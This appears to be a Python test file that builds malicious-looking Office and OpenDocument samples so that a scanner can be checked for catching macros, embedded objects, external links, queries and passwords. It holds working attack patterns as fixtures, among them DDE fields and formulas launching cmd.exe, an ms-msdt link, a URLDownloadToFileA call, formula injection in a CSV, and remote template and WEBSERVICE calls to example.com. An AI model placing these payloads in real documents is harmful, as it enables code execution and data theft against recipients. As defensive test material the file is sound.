"""Macros, objects, links, queries and passwords: whatever a paper does not need."""

from tests.hostile.builders import (
    REL,
    cell,
    compound,
    docx,
    docx_parts,
    field,
    ods,
    record,
    table,
    workbook_97,
    xlsx,
    zipped,
)
from tests.hostile.cases import add

MACROS, OBJECT, LINK, ELSEWHERE = "macros", "embedded object", "link in the file", "from elsewhere"
OUTSIDE = "External"
PROGRAM = "starts a program"

# --- relationships of Word -------------------------------------------------------------------

for _name, _kind, _target, _words in (
    ("template of the web", "attachedTemplate", "http://example.com/t.dotm", ELSEWHERE),
    ("template of another computer", "attachedTemplate", r"\\server\share\t.dotm", ELSEWHERE),
    ("template by a file address", "attachedTemplate", "file://server/share/t.dotm", ELSEWHERE),
    ("picture of the web", "image", "https://example.com/pixel.png", ELSEWHERE),
    ("picture of another computer", "image", "file://server/pixel.png", ELSEWHERE),
    ("linked object", "oleObject", "file:///C:/a.xlsx", ELSEWHERE),
    ("frame of the web", "frame", "http://example.com/", ELSEWHERE),
    ("part of another document", "subDocument", "file:///C:/a.docx", ELSEWHERE),
    ("source of a serial letter", "mailMergeSource", "file:///C:/a.xlsx", ELSEWHERE),
    ("film of the web", "video", "https://example.com/a.mp4", ELSEWHERE),
    ("link to a file", "hyperlink", "file:///C:/Windows/System32/calc.exe", LINK),
    ("link to another computer", "hyperlink", r"\\server\share\a.docx", LINK),
    ("link to another computer, masked", "hyperlink", "%5C%5Cserver/share", LINK),
    ("link to a script", "hyperlink", "javascript:alert(1)", LINK),
    ("link to a program of Windows", "hyperlink", "ms-msdt:/id PCWDiagnostic", LINK),
    ("link to a search", "hyperlink", "search-ms:query=x", LINK),
):
    add(_name, "a.docx", _words, _kind, _target, lambda k, t: docx("", (k, t, OUTSIDE)))
add(
    "template of the web, in the settings",
    "a.docx",
    ELSEWHERE,
    lambda: docx(
        parts={
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="r" Type="{REL}/attachedTemplate"'
            ' Target="https://example.com/t.dotm" TargetMode="External"/></Relationships>'
        }
    ),
)
add(
    "picture of the web that is said to lie inside",
    "a.docx",
    ELSEWHERE,
    lambda: docx("", ("image", "http://example.com/p.png")),
)
add(
    "picture of the web in old drawing",
    "a.docx",
    ELSEWHERE,
    lambda: docx(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="http://example.com/p.png"/></v:shape></w:pict></w:r></w:p>'
    ),
)

# --- parts -----------------------------------------------------------------------------------

for _name, _file, _part, _words in (
    ("macros", "a.docx", "word/vbaProject.bin", MACROS),
    ("macros by another name", "a.docx", "word/media/vbaProject2.bin", MACROS),
    ("program", "a.docx", "word/media/setup.exe", MACROS),
    ("script", "a.docx", "customXml/start.vbs", MACROS),
    ("object", "a.docx", "word/embeddings/oleObject1.bin", OBJECT),
    ("workbook in a document", "a.docx", "word/embeddings/Microsoft_Excel_Sheet.xlsx", OBJECT),
    ("document with macros in a document", "a.docx", "word/embeddings/a.docm", MACROS),
    ("controls", "a.docx", "word/activeX/activeX1.xml", OBJECT),
    ("web extension", "a.docx", "word/webextensions/webextension1.xml", "fetches data"),
):
    add(f"{_name} in a part", _file, _words, _part, lambda p: docx(parts={p: "<x/>"}))
for _name, _part, _words in (
    ("macros of a workbook", "xl/vbaProject.bin", MACROS),
    ("macro sheet", "xl/macrosheets/sheet1.xml", MACROS),
    ("link to another workbook", "xl/externalLinks/externalLink1.xml", "another file"),
    ("data connections", "xl/connections.xml", "fetches data"),
    ("query", "xl/queryTables/queryTable1.xml", "fetches data"),
    ("data model", "xl/model/item.data", "fetches data"),
    ("object in a workbook", "xl/embeddings/oleObject1.bin", OBJECT),
    ("controls in a workbook", "xl/activeX/activeX1.bin", OBJECT),
):
    add(_name, "a.xlsx", _words, _part, lambda p: xlsx(parts={p: "<x/>"}))
for _name, _kind, _words in (
    (
        "document with macros, renamed",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        MACROS,
    ),
    (
        "template with macros, renamed",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        MACROS,
    ),
):
    add(_name, "a.docx", _words, _kind, lambda k: docx(main_type=k))
add(
    "workbook with macros, renamed",
    "a.xlsx",
    MACROS,
    lambda: xlsx(main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
)
add(
    "macro sheet by its relationship",
    "a.xlsx",
    MACROS,
    lambda: xlsx(
        None,
        ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "s.xml"),
    ),
)
add("other contents put in", "a.docx", OBJECT, lambda: docx("", ("aFChunk", "a.html")))
add("package put in", "a.docx", OBJECT, lambda: docx("", ("package", "embeddings/a.bin")))
add(
    "program in a spreadsheet",
    "a.ods",
    MACROS,
    lambda: ods(parts={"Basic/Standard/Module1.xml": "<x/>"}),
)
add("script in a spreadsheet", "a.ods", MACROS, lambda: ods(parts={"Scripts/python/a.py": "x"}))

# --- fields and formulas ---------------------------------------------------------------------

FETCHES = "field that fetches"
DOCUMENT = "word/document.xml"
for _name, _text, _pieces in (
    ("DDE field", r'DDE "c:\\windows\\system32\\cmd.exe" "/k calc"', 1),
    ("DDE field in pieces", r'DDEAUTO "C:\\x\\cmd.exe" "/k calc"', 9),
    ("text of another file", r'INCLUDETEXT "C:\\a.docx"', 1),
    ("picture of another file", r'INCLUDEPICTURE "http://example.com/a.png" \d', 3),
    ("linked sheet", r'LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1"', 1),
    ("database field", "DATABASE \\d x", 2),
):
    add(_name, "a.docx", FETCHES, _text, _pieces, lambda t, p: docx(field(t, pieces=p)))
add(
    "DDE field in one tag",
    "a.docx",
    FETCHES,
    lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO c:\\x.exe"><w:r/></w:fldSimple></w:p>'),
)
add(
    "DDE field behind blanks",
    "a.docx",
    FETCHES,
    lambda: zipped(
        (parts := docx_parts(field("DDEAUTO c:\\x.exe")))
        | {DOCUMENT: "\n" * 300 + str(parts[DOCUMENT]).partition("?>")[2]}
    ),
)
add(
    "DDE field hidden in another",
    "a.docx",
    FETCHES,
    lambda: docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF 1 = 1 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\x</w:instrText>'
        '<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
)
add(
    "DDE field in a header",
    "a.docx",
    FETCHES,
    lambda: docx(
        parts={
            "word/header1.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main">{field("DDE a b")}</w:hdr>'
        }
    ),
)
add(
    "DDE field in UTF-16",
    "a.docx",
    FETCHES,
    lambda: docx(
        parts={
            "word/footer1.xml": (
                '<?xml version="1.0" encoding="UTF-16"?><w:ftr xmlns:w="http://schemas.'
                f'openxmlformats.org/wordprocessingml/2006/main">{field("DDE a b")}</w:ftr>'
            ).encode("utf-16")
        }
    ),
)
add("link field to a computer", "a.docx", LINK, lambda: docx(field(r'HYPERLINK "\\\\server\\a"')))
for _name, _formula in (
    ("DDE formula", "cmd|'/c calc'!A0"),
    ("DDE formula with a sign", "=+cmd|' /C notepad'!'A1'"),
    ("formula that links to a computer", 'HYPERLINK("\\\\server\\a","x")'),
    ("formula that asks the web", 'WEBSERVICE("http://example.com/?q="&amp;A1)'),
    ("formula that calls a library", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)'),
    ("formula that registers a library", 'REGISTER.ID("Kernel32","WinExec")'),
):
    add(
        _name,
        "a.xlsx",
        PROGRAM,
        _formula,
        lambda f: xlsx(f'<row r="1"><c r="A1"><f>{f}</f><v>0</v></c></row>'),
    )
add(
    "DDE in a name",
    "a.xlsx",
    PROGRAM,
    lambda: xlsx(
        workbook="<definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>"
    ),
)
add("DDE in a text table", "a.csv", PROGRAM, lambda: b"TT,Vi\xe1\xbb\x87c\n1,=cmd|'/c calc'!A0\n")
add(
    "DDE in a spreadsheet",
    "a.ods",
    PROGRAM,
    lambda: ods(
        table(
            '<table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;'
            '&quot;a&quot;;&quot;b&quot;)"/></table:table-row>'
        )
    ),
)
add(
    "formula to another file in a spreadsheet",
    "a.ods",
    PROGRAM,
    lambda: ods(
        table(
            "<table:table-row><table:table-cell table:formula=\"of:=['file:///tmp/a.ods'#$A.A1]\"/>"
            "</table:table-row>"
        )
    ),
)

# --- OpenDocument ----------------------------------------------------------------------------

for _name, _element, _words in (
    (
        "sheet of another file",
        '<table:table-source xlink:href="http://example.com/a.ods"/>',
        "another file",
    ),
    ("cells of another file", '<table:cell-range-source xlink:href="a.ods"/>', "another file"),
    ("picture of the web", '<draw:image xlink:href="http://example.com/p.png"/>', ELSEWHERE),
    ("object", '<draw:object-ole xlink:href="./Object 1"/>', OBJECT),
    ("applet", "<draw:applet/>", OBJECT),
    ("link to a computer", '<text:a xlink:href="file://server/a">x</text:a>', LINK),
    ("script on a click", '<script:event-listener xlink:href="vnd.sun.star.script:a"/>', MACROS),
    ("DDE link", "<table:dde-link><office:dde-source/></table:dde-link>", "fetches data"),
    ("database", "<table:database-source-query/>", "fetches data"),
):
    add(
        f"{_name} in a spreadsheet",
        "a.ods",
        _words,
        _element,
        lambda e: ods(table(f"<table:table-row>{cell('x')}</table:table-row>") + e),
    )
add(
    "password of a spreadsheet",
    "a.ods",
    "password",
    lambda: ods(
        manifest='<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="">'
        "<manifest:encryption-data/></manifest:file-entry>"
    ),
)
add(
    "document in a spreadsheet",
    "a.ods",
    OBJECT,
    lambda: ods(
        manifest='<manifest:file-entry manifest:full-path="Object 1/"'
        ' manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    ),
)

# --- before 2007 -----------------------------------------------------------------------------

SHEET_97 = record(0x85, b"\0\0\0\0\0\0\x06\0Sheet1")
add(
    "password of a document",
    "a.docx",
    "password",
    lambda: compound({"EncryptionInfo": b"x", "EncryptedPackage": b"y" * 5000}),
)
add(
    "password of a workbook of before 2007",
    "a.xls",
    "password",
    lambda: workbook_97(record(0x2F, bytes(6))),
)
add("macros before 2007", "a.xls", MACROS, lambda: workbook_97(storages=("_VBA_PROJECT_CUR",)))
add(
    "macro sheet before 2007",
    "a.xls",
    MACROS,
    lambda: workbook_97(record(0x85, b"\0\0\0\0\0\x01\x06\0Macro1")),
)
add(
    "link to another workbook before 2007",
    "a.xls",
    "another file",
    lambda: workbook_97(SHEET_97, record(0x1AE, b"\x01\0\x08\0\0\x01a.xls  ")),
)
add("query before 2007", "a.xls", "fetches data", lambda: workbook_97(record(0x1AD, bytes(20))))
add("object before 2007", "a.xls", OBJECT, lambda: workbook_97(storages=("MBD0001A2B3",)))
add("document of before 2007", "a.doc", "before 2007", lambda: compound({"WordDocument": b"x"}))
add(
    "compound file of something else",
    "a.xls",
    "neither Word nor Excel",
    lambda: compound({"Other": b"x"}),
)

add(
    "DDE field in a main part by another name",
    "a.docx",
    FETCHES,
    lambda: zipped(
        {
            name.replace("word/", "x/").replace("document.xml", "main.txt"): (
                part.replace("word/document.xml", "x/main.txt") if isinstance(part, str) else part
            )
            for name, part in docx_parts(field("DDE a b")).items()
        }
    ),
)
